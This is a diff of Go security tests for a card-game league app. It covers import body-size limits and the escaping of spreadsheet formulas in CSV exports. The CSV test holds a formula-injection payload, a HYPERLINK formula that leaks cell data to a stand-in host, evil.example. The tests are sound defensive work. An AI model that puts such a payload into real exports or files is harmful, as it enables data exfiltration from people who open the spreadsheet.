@@ -192,12 +192,12 @@ func sendFast(body string, chunked bool) func(net.Conn) error {
 // over 32 MiB sent chunked is refused by the import naming its limit, and
 // a stalled import is a 408; none of them writes anything.
 func TestHostileImportBodyLimits(t *testing.T) {
-	ts := newTestServerWith(t, func(a *App) { a.writeRate, a.imports = 0, newImportBudget(1<<30, 1<<30) })
+	ts := newTestServerWith(t, func(a *App) { a.writeRate = 0; a.interop.SetBudget(1<<30, 1<<30) })
 
 	// 3 MiB: an export with spaces between its tokens, as JSON allows.
 	export := kksExport(3)
 	padded := export[:1] + strings.Repeat(" ", 3<<20) + export[1:]
-	if p := ts.upload(t, padded); p.Status != http.StatusSeeOther {
+	if p := ts.Upload(t, padded); p.Status != http.StatusSeeOther {
 		t.Fatalf("a 3 MiB import: %d %s", p.Status, p.Text(`[data-testid="import-error"]`))
 	}
 	rows := ts.rows()
@@ -295,7 +295,7 @@ func TestHostileServerTimeouts(t *testing.T) {
 // table's name included; scores stay numbers, negative ones too.
 func TestHostileCSVFormulas(t *testing.T) {
 	ts := newTestServer(t)
-	admin := ts.createLeague(t, "Club", "total", "@Ana", "-Ben")
+	admin := ts.CreateLeague(t, "Club", "total", "@Ana", "-Ben")
 
 	const evil = `=HYPERLINK("http://evil.example/?"&B2,"Click")`
 	nf := ts.Get("/tables/new").FormOf(t, "/tables")
@@ -309,8 +309,8 @@ func TestHostileCSVFormulas(t *testing.T) {
 	}
 	// -Ben ends on -1: one face-down card, no tokens (scored though it
 	// breaks KKS-2, ruling G-3). Then a valid game for the league.
-	ts.recordKKS(t, table, []map[string]string{kkstest.Amelia, {"red": "x"}}, []string{"3", "0"})
-	ts.recordKKS(t, table, []map[string]string{
+	ts.RecordKKS(t, table, []map[string]string{kkstest.Amelia, {"red": "x"}}, []string{"3", "0"})
+	ts.RecordKKS(t, table, []map[string]string{
 		{"red": "1 2 3 4 5 6 7 8 9 10", "blue": "1 2 3 4 5 6 7"},
 		{"yellow": "1 2 3 4 5 6 7 8 9 10", "black": "1 2 3 4 5 6 7"},
 	}, []string{"3", "1"}) // @Ana 86, -Ben 84
@@ -343,21 +343,7 @@ func TestHostileCSVFormulas(t *testing.T) {
 	if fmt.Sprint(rows[1:]) != fmt.Sprint([][]string{{"1", "'@Ana", "1", "1", "86"}, {"2", "'-Ben", "1", "0", "84"}}) {
 		t.Errorf("standings.csv: %q", rows)
 	}
-
-	// Each dangerous first character, and what is left alone.
-	for in, want := range map[string]string{
-		"=1+2": "'=1+2", "+1": "'+1", "-1": "'-1", "@SUM(A1)": "'@SUM(A1)", "\tX": "'\tX", "\rX": "'\rX",
-		"Ana": "Ana", "": "", " =1": " =1", "a=b": "a=b",
-	} {
-		if got := csvText(in); got != want {
-			t.Errorf("csvText(%q) = %q, want %q", in, got, want)
-		}
-	}
-	s := newSheet()
-	s.row("-3", -3, 2.5, true)
-	if got := string(s.bytes()); got != "'-3,-3,2.5,true\n" {
-		t.Errorf("a text -3 and a number -3: %q", got)
-	}
+	// Each dangerous first character: web/interop's TestSheetCells.
 }
 
 // openStream opens a live stream on a raw connection and returns its
